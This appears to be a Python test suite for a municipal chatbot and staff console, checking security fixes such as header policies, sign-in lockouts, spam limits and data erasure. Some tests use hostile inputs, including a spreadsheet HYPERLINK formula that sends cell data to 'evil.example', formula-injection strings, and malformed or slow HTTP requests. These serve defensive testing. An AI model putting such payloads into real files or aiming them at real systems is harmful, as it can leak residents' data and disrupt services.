"""Issue 17, what the running server gave away when probed: each finding with a test that
failed before its fix."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from aiohttp.test_utils import TestClient, TestServer
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncEngine

from bot import wiring
from bot.app import create_app
from bot.channels.inbound import read_json, same_secret
from bot.contests.bank import export_results
from bot.keys import DEPS, TELEGRAM
from bot.report import workbook
from bot.report.model import GapGroup
from bot.settings import Settings
from bot.staff import auth
from bot.web import security
from db import feedback_queries as fq
from db import privacy_queries as pq
from db import queries
from db.contest_queries import GroupStanding, Standing
from db.models import Contest, Feedback, Outbox, Rating, User, utcnow
from handlers.deps import Deps
from handlers.domain.types import IncomingMessage, Response
from handlers.engine import handle
from handlers.feedback_store import PER_HOUR
from tests.fakes.telegram_api import FakeTelegram, text_update
from tests.flows import next_step
from tests.report_sample import sample_report
from tests.test_staff_console import PASSWORD, login
from tests.test_telegram import post as post_update
from tests.test_telegram import settings_for

FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"Bấm vào đây")'


@pytest.fixture
async def client(tmp_path: Path) -> AsyncIterator[TestClient]:
    app = create_app(Settings(database_url=f"sqlite:///{tmp_path}/hard.sqlite3"))
    async with TestClient(TestServer(app)) as test_client:
        async with app[DEPS].sessions() as session, session.begin():
            for name, role in (("an", "admin"), ("binh", "staff"), ("chi", "tech_team")):
                await auth.add_staff(session, name, name.title(), PASSWORD, role)
        yield test_client


# --- 1. formulas in the files staff download ------------------------------------------------


async def test_feedback_csv_keeps_a_formula_as_text(client: TestClient) -> None:
    csrf = await login(client, "binh")
    for start in (FORMULA, "+1+1+cmd", "-2+3+cmd", "@SUM(A1:A9)", "=1+1 \t=2+2"):
        await client.post(
            "/staff/feedback/new",
            data={"csrf": csrf, "category": "khac", "description": start, "area": start},
        )
    exported = (await (await client.get("/staff/export.csv")).read()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported)))[1:]
    assert len(rows) == 5
    for row in rows:
        for field in row:
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_report_workbook_keeps_residents_formulas_as_text(tmp_path: Path) -> None:
    report = replace(sample_report(), gaps=[GapGroup(FORMULA, 3, ["+SUM(1)"], None)])
    path = workbook.write(report, {}, tmp_path / "report.xlsx")
    book = load_workbook(path)
    found = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+"))
    ]
    assert found and all(cell.data_type == "s" for cell in found)


def test_contest_results_keep_formulas_as_text() -> None:
    now = datetime.now(UTC)
    contest = Contest(id=1, title="=1+1", starts_at=now, ends_at=now, created_by="t")
    standings = [Standing('=HYPERLINK("x")', "@tổ 3", 5, 10, 12.0, "web")]
    groups = [GroupStanding("-tổ 3", 1, 5.0, 5)]
    book = load_workbook(io.BytesIO(export_results(contest, standings, groups, [])))
    texts = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@"
    ]
    assert len(texts) == 3 and all(cell.data_type == "s" for cell in texts)


# --- 5. cross-site simple requests -----------------------------------------------------------


@pytest.mark.parametrize(
    "content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]
)
async def test_the_chat_api_accepts_json_only(client: TestClient, content_type: str) -> None:
    body = '{"user": "visitor-aaaaaaaaaaaaaaaa", "text": "xin chào"}'
    refused = await client.post("/api/chat", data=body, headers={"Content-Type": content_type})
    assert refused.status == 415 and "JSON" in (await refused.json())["error"]
    async with client.app[DEPS].sessions() as session:
        assert await session.scalar(select(func.count()).select_from(User)) == 0  # none stored
    accepted = await client.post(
        "/api/chat", data=body, headers={"Content-Type": "application/json; charset=utf-8"}
    )
    assert accepted.status == 200


# --- 11. security headers --------------------------------------------------------------------


async def test_console_pages_refuse_framing_sniffing_caching_and_inline_script(
    client: TestClient,
) -> None:
    login_page = await client.get("/staff/login")
    headers = login_page.headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    assert "script-src 'self'" in headers["Content-Security-Policy"]
    scripts = headers["Content-Security-Policy"].split("script-src")[1].split(";")[0]
    assert "unsafe-inline" not in scripts
    assert headers["Cache-Control"] == "no-store"
    await login(client, "binh")
    inbox = await client.get("/staff/")
    assert inbox.headers["Cache-Control"] == "no-store"
    html = await inbox.text()
    assert "<script>" not in html and "onchange=" not in html  # nothing inline to allow
    script = await client.get("/staff/static/staff.js")
    assert script.status == 200 and "data-canned" in await script.text()
    denied = await client.get("/staff/announcements")  # an error page gets them too
    assert denied.status == 403 and denied.headers["X-Frame-Options"] == "DENY"


async def test_public_pages_are_framed_only_by_the_allowed_ward_sites(tmp_path: Path) -> None:
    settings = Settings(
        database_url=f"sqlite:///{tmp_path}/public.sqlite3",
        webchat_allowed_origins=["https://dakbla.quangngai.gov.vn"],
    )
    async with TestClient(TestServer(create_app(settings))) as public:
        page = await public.get("/")
        assert page.headers["X-Content-Type-Options"] == "nosniff"
        policy = page.headers["Content-Security-Policy"]
        assert policy == "frame-ancestors 'self' https://dakbla.quangngai.gov.vn"
        body = {"user": "visitor-bbbbbbbbbbbbbbbb", "text": "xin chào"}
        api = await public.post("/api/chat", json=body)
        assert api.headers["X-Content-Type-Options"] == "nosniff"


# --- 6. crafted input ------------------------------------------------------------------------


async def test_crafted_chat_input_gets_a_4xx_or_a_kind_reply_never_a_5xx(
    client: TestClient,
) -> None:
    user = "visitor-cccccccccccccccc"
    deep = '{"user": "' + user + '", "text": ' + "[" * 50_000 + "]" * 50_000 + "}"
    cases = [
        ("deep JSON", deep),
        ("lone surrogate", '{"user": "' + user + '", "text": "xin ch\\ud800o"}'),
        ("surrogate payload", '{"user": "' + user + '", "payload": "open:\\udfff"}'),
    ]
    huge = "9" * 100
    for payload in (
        f"quiz:go:{huge}",
        f"quiz:open:{huge}",
        f"annq:{huge}",
        "quiz:ans:²",
        f"quiz:ans:{huge}",
        f"learn:ans:{huge}",
        f"rate:a:x:{huge}",
        "human:add:x",
    ):
        cases.append((payload, '{"user": "' + user + '", "payload": "' + payload + '"}'))
    for name, body in cases:
        response = await client.post(
            "/api/chat", data=body, headers={"Content-Type": "application/json"}
        )
        assert response.status < 500, (name, response.status)
        answer = await response.json()
        assert answer.get("error") or answer["replies"][0]["text"], name


@pytest.fixture
async def telegram(fake: FakeTelegram, tmp_path: Path) -> AsyncIterator[TestClient]:
    """The app with its Telegram webhook, against the fake Bot API."""
    app = create_app(settings_for(fake, tmp_path))
    async with TestClient(TestServer(app)) as client:
        await asyncio.wait_for(app[TELEGRAM].ready.wait(), 10)
        yield client


async def test_a_webhook_secret_of_undecodable_bytes_is_refused_not_a_5xx(
    telegram: TestClient,
) -> None:
    body = b'{"update_id": 1}'
    for secret in ("bí-mật".encode(), b"\xff\xfe\xc3"):
        reader, writer = await asyncio.open_connection(telegram.host, telegram.port)
        writer.write(
            b"POST /webhooks/telegram HTTP/1.1\r\nHost: ward\r\n"
            b"Content-Type: application/json\r\nConnection: close\r\n"
            b"X-Telegram-Bot-Api-Secret-Token: " + secret + b"\r\n"
            b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
        )
        status = int((await reader.readline()).split()[1])
        writer.close()
        assert 400 <= status < 500, (secret, status)


def test_secrets_compare_whatever_bytes_a_header_carried() -> None:
    undecodable = b"\xff\xfe".decode("utf-8", "surrogateescape")  # as aiohttp hands it over
    assert not same_secret(undecodable, "s3cret") and not same_secret("bí-mật", "s3cret")
    assert same_secret("s3cret", "s3cret")


def test_bodies_too_deep_or_with_lone_surrogates_are_read_safely() -> None:
    with pytest.raises(ValueError):
        read_json("[" * 100_000 + "]" * 100_000)
    assert read_json('{"text": "a\\ud800b"}') == {"text": "a?b"}


async def staff_file_a_report(client: TestClient) -> tuple[str, str]:
    """A staff member types in a phản ánh: their CSRF token and the record's code."""
    csrf = await login(client, "binh")
    await client.post(
        "/staff/feedback/new",
        data={"csrf": csrf, "category": "khac", "description": "Đèn đường hỏng ở tổ 3"},
    )
    exported = (await (await client.get("/staff/export.csv")).read()).decode("utf-8-sig")
    return csrf, list(csv.reader(io.StringIO(exported)))[1][0]


async def test_console_forms_with_words_for_ids_get_a_4xx(client: TestClient) -> None:
    csrf, code = await staff_file_a_report(client)
    for staff_id in ("abc", "²", "9" * 40, ""):
        assigned = await client.post(
            f"/staff/feedback/{code}/assign", data={"csrf": csrf, "staff_id": staff_id}
        )
        assert assigned.status == 400, staff_id
    csrf = await login(client, "an")
    for canned in ("abc", "9" * 40):
        deleted = await client.post(f"/staff/canned/{canned}/delete", data={"csrf": csrf})
        assert deleted.status == 404, canned
    for path in ("/staff/questions/abc", "/staff/questions/" + "9" * 40, "/staff/contests/²"):
        assert (await client.get(path)).status == 404, path


# --- 8. forged ratings -------------------------------------------------------------------------


async def test_a_rating_is_stored_only_when_asked_and_once(client: TestClient) -> None:
    user = "visitor-dddddddddddddddd"
    forged = {"user": user, "payload": "rate:a:dang-ky-khai-sinh:1"}
    for _ in range(5):  # never asked: nothing stored
        await client.post("/api/chat", json=forged)
    await client.post("/api/chat", json={"user": user, "text": "làm khai sinh"})
    asked = await (await client.post("/api/chat", json={"user": user, "text": "cảm ơn"})).json()
    payload = next(
        b["payload"] for r in asked["replies"] for b in r["buttons"] if b["payload"].endswith(":5")
    )
    for _ in range(15):
        await client.post("/api/chat", json={"user": user, "payload": payload})
    async with client.app[DEPS].sessions() as session:
        assert await session.scalar(select(func.count()).select_from(Rating)) == 1


# --- 10. erasure -------------------------------------------------------------------------------


async def test_erasure_masks_the_place_and_drops_the_photo_and_alerts_are_masked(
    deps: Deps,
) -> None:
    deps = replace(deps, staff_alerts=(("telegram", "-100200"),))
    async with deps.sessions() as session, session.begin():
        user = await queries.get_or_create_user(session, "telegram", "erase-me")
        feedback = await fq.create_feedback(
            session, actor="resident", service_code="ha-tang", description="Ổ gà, gọi 0905123456",
            expected_datetime=utcnow(), channel="telegram", user_id=user.id,
            area="Nhà số 12 Lê Lợi, 0905 123 456", media_url="https://example.vn/anh.jpg",
        )  # fmt: skip
        await pq.forget_user(session, user.id)
    async with deps.sessions() as session:
        kept = await session.get(Feedback, feedback.id)
    assert kept is not None and "0905" not in (kept.area or "") and kept.media_url is None
    reply = await handle(IncomingMessage("telegram", "alert-me", text="gửi phản ánh"), deps)
    assert reply.replies


async def test_the_staff_group_alert_quotes_no_phone_number(deps: Deps) -> None:
    deps = replace(deps, staff_alerts=(("telegram", "-100200"),))
    told = "Đèn đường tổ 7 hỏng cả tuần nay, có gì gọi tôi 0905 123 456"
    await file_report(deps, "alert-resident", told)
    async with deps.sessions() as session:
        alert = await session.scalar(select(Outbox.text).where(Outbox.kind == "staff_alert"))
        filed = await session.scalar(select(Feedback.description))
    assert filed is not None and "0905 123 456" in filed  # the record keeps what was told
    assert alert is not None and "Đèn đường" in alert and "0905" not in alert


# --- 13. smaller ones --------------------------------------------------------------------------


async def test_a_visitor_id_with_a_trailing_newline_is_refused(client: TestClient) -> None:
    refused = await client.post(
        "/api/chat", json={"user": "visitor-eeeeeeeeeeeeeeee\n", "text": "xin chào"}
    )
    assert refused.status == 400
    updates = await client.get("/api/chat/updates", params={"user": "visitor-eeeeeeeeeeeeeeee\n"})
    assert updates.status == 400


# --- 7. sign-in limits -------------------------------------------------------------------------


@pytest.fixture
async def proxied(
    engine: AsyncEngine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[TestClient]:
    """Behind the TLS proxy (addresses from X-Forwarded-For), on both databases."""
    monkeypatch.setattr(wiring, "create_engine", lambda _url: engine)
    settings = Settings(database_url=f"sqlite:///{tmp_path}/unused.sqlite3", behind_proxy=True)
    async with TestClient(TestServer(create_app(settings))) as test_client:
        async with test_client.app[DEPS].sessions() as session, session.begin():
            await auth.add_staff(session, "an", "An", PASSWORD, "admin")
        yield test_client


async def sign_in(client: TestClient, address: str, password: str) -> int:
    page = await client.get("/staff/login", headers={"X-Forwarded-For": address})
    token = re.search(r'name="csrf" value="([^"]+)"', await page.text()).group(1)
    response = await client.post(
        "/staff/login",
        data={"csrf": token, "username": "an", "password": password},
        headers={"X-Forwarded-For": address},
        allow_redirects=False,
    )
    return response.status


async def test_parallel_wrong_passwords_get_only_the_allowed_checks(
    proxied: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    checks = 0
    real = auth.verify_password

    def counted(hashed: str, password: str) -> bool:
        nonlocal checks
        checks += 1
        return real(hashed, password)

    monkeypatch.setattr(auth, "verify_password", counted)
    statuses = await asyncio.gather(*(sign_in(proxied, "203.0.113.7", "sai") for _ in range(30)))
    assert checks <= auth.MAX_FAILURES, checks
    assert statuses.count(429) >= 30 - auth.MAX_FAILURES


async def test_an_attacker_elsewhere_cannot_lock_the_owner_out(
    proxied: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(auth, "ACCOUNT_DELAY", timedelta(seconds=1))
    for _ in range(auth.MAX_FAILURES):
        assert await sign_in(proxied, "203.0.113.7", "sai") == 401
    assert await sign_in(proxied, "203.0.113.7", PASSWORD) == 429  # that address is locked
    assert await sign_in(proxied, "198.51.100.2", PASSWORD) == 429  # the account: a short wait
    await asyncio.sleep(1.1)
    assert await sign_in(proxied, "198.51.100.2", PASSWORD) == 303  # the owner gets in


# --- 12. spam through feedback -----------------------------------------------------------------


async def file_report(deps: Deps, user: str, text: str) -> Response:
    """A problem told in the chat, pressed through the intake (send, no photo, no phone)."""
    reply = await handle(IncomingMessage("web", user, text=text), deps)
    for _ in range(8):
        step = next_step(b.title for r in reply.replies for b in r.buttons)
        if step is None:
            break
        payload = next(b.payload for r in reply.replies for b in r.buttons if b.title == step)
        reply = await handle(IncomingMessage("web", user, payload=payload), deps)
    return reply


async def test_one_resident_files_a_few_an_hour_and_the_staff_get_one_grouped_alert(
    deps: Deps,
) -> None:
    deps = replace(deps, staff_alerts=(("telegram", "-100200"),))
    for n in range(PER_HOUR + 3):
        reply = await file_report(deps, "spammer", f"Đèn đường tổ {n + 1} hỏng cả tuần nay")
    assert "khá nhiều trong một giờ qua" in reply.text
    async with deps.sessions() as session:
        filed = await session.scalar(select(func.count()).select_from(Feedback))
        alerts = list(
            await session.scalars(select(Outbox.text).where(Outbox.kind == "staff_alert"))
        )
    assert filed == PER_HOUR
    assert len(alerts) == 1 and all(f"Đèn đường tổ {n}" in alerts[0] for n in range(1, 6))
    other = await file_report(deps, "neighbour", "Cống tổ 2 bị tắc, nước tràn ra đường")
    assert "khá nhiều" not in other.text  # the limit is per resident


async def test_telegram_sends_only_what_is_handled_and_edits_are_not_answered_again(
    telegram: TestClient, fake: FakeTelegram
) -> None:
    assert fake.called("setWebhook")[0]["allowed_updates"] == [
        "message",
        "callback_query",
        "my_chat_member",
    ]
    first = text_update(1, 601, "làm giấy khai sinh cho con")
    await post_update(telegram, first)
    answered = len(fake.called("sendMessage"))
    edited = {"update_id": 2, "edited_message": {**first["message"], "edit_date": 1}}
    edited["edited_message"]["text"] = "làm giấy khai tử"
    assert (await post_update(telegram, edited)).status == 200
    assert len(fake.called("sendMessage")) == answered  # no second answer


async def test_a_long_staff_reply_is_sent_whole_or_refused_never_cut(client: TestClient) -> None:
    csrf, code = await staff_file_a_report(client)
    long = ("Phường đã kiểm tra và sẽ sửa trong tuần. " * 70).strip()  # about 2,900 characters
    sent = await client.post(
        f"/staff/feedback/{code}/reply", data={"csrf": csrf, "text": long}, allow_redirects=False
    )
    assert sent.status == 303
    async with client.app[DEPS].sessions() as session:
        note = await session.scalar(select(Feedback.status_notes))
    assert note == long  # whole, not cut at 2,000 characters
    too_long = await client.post(
        f"/staff/feedback/{code}/reply", data={"csrf": csrf, "text": "x " * 2500}
    )
    assert too_long.status == 400 and "chia thành hai lần" in await too_long.text()


async def test_a_body_trickling_in_is_dropped_with_a_timeout(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(security, "BODY_SECONDS", 0.5)
    reader, writer = await asyncio.open_connection(client.host, client.port)
    writer.write(
        b"POST /api/chat HTTP/1.1\r\nHost: ward\r\nContent-Type: application/json\r\n"
        b"Content-Length: 100\r\n\r\n" + b'{"user": '
    )
    await writer.drain()
    status = await asyncio.wait_for(reader.readline(), 5)
    writer.close()
    assert int(status.split()[1]) == 408
    fast = await client.post("/api/chat", json={"user": "visitor-ffffffffffffffff", "text": "a"})
    assert fast.status == 200  # a body that arrives at once is read as before
